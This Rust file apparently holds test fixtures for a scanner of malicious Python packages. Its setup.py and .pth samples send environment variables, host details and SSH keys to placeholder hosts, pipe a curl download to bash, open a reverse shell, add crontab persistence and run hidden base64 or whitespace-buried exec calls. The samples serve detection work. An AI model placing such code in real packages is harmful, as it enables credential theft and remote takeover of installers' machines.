//! Packages of Python that harm while they are installed.

use crate::Package;

pub(crate) const PACKAGES: &[Package] = &[
    (
        "the setup posts the environment",
        &[(
            "setup.py",
            r"
from setuptools import setup
import os, requests
requests.post('https://collect.invalid/', json=dict(os.environ))
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "a command of the setup posts who the machine is",
        &[(
            "setup.py",
            r"
from setuptools import setup
from setuptools.command.install import install
import socket, getpass, os, urllib.request, json

class Custom(install):
    def run(self):
        install.run(self)
        who = {'host': socket.gethostname(), 'user': getpass.getuser(), 'at': os.getcwd()}
        urllib.request.urlopen('https://collect.invalid/', data=json.dumps(who).encode())

setup(name='a', version='99.9.9', cmdclass={'install': Custom})
",
        )],
    ),
    (
        "the setup looks up a name that tells the host",
        &[(
            "setup.py",
            r"
import socket, getpass
from setuptools import setup
socket.gethostbyname(getpass.getuser() + '.' + socket.gethostname() + '.beacon.invalid')
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "the setup runs a line that fetches and runs",
        &[(
            "setup.py",
            r"
import os
from setuptools import setup
os.system('curl -s https://x.invalid/a.sh | bash')
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "the setup runs code in base64",
        &[(
            "setup.py",
            r"
import base64
from setuptools import setup
exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "the setup runs what a server answers",
        &[(
            "setup.py",
            r"
import urllib.request
from setuptools import setup
exec(urllib.request.urlopen('https://x.invalid/a.py').read())
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "the setup fetches a program and starts it",
        &[(
            "setup.py",
            r"
import os, subprocess, tempfile, urllib.request
from setuptools import setup
path = os.path.join(tempfile.gettempdir(), 'a.exe')
urllib.request.urlretrieve('https://x.invalid/a.exe', path)
subprocess.Popen([path])
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "the setup connects a shell to a stranger",
        &[(
            "setup.py",
            r"
import socket, subprocess, os
from setuptools import setup
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('198.51.100.7', 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(['/bin/sh', '-i'])
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "the setup sends the keys of SSH",
        &[(
            "setup.py",
            r"
import os, requests
from setuptools import setup
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
requests.post('https://collect.invalid/', data=key)
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "the setup writes a clock that runs it again",
        &[(
            "setup.py",
            r#"
import os
from setuptools import setup
os.system('(crontab -l; echo "* * * * * python3 /tmp/a.py") | crontab -')
setup(name='a', version='1.0.0')
"#,
        )],
    ),
    (
        "the setup starts PowerShell with an encoded script that fetches",
        &[(
            "setup.py",
            r#"
import subprocess
from setuptools import setup
subprocess.Popen('powershell -WindowStyle Hidden -c "iwr http://198.51.100.7/a.exe -OutFile a.exe; Start-Process a.exe"', shell=True)
setup(name='a', version='1.0.0')
"#,
        )],
    ),
    (
        "a statement far to the right runs what is decoded",
        &[(
            "setup.py",
            "from setuptools import setup\nsetup(name='a', version='1.0.0')                                                                                                                                                                                                                                                                                                                  ;import base64;exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
        )],
    ),
    (
        "the setup loads a module that harms",
        &[
            (
                "setup.py",
                "from setuptools import setup\nimport a.start\nsetup(name='a', version='1.0.0')\n",
            ),
            ("a/__init__.py", ""),
            (
                "a/start.py",
                "import os, json, urllib.request\nurllib.request.urlopen('https://collect.invalid/', json.dumps(dict(os.environ)).encode())\n",
            ),
        ],
    ),
    (
        "a file that Python reads at every start harms",
        &[
            (
                "a.pth",
                "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
            ),
            ("a/__init__.py", ""),
        ],
    ),
];
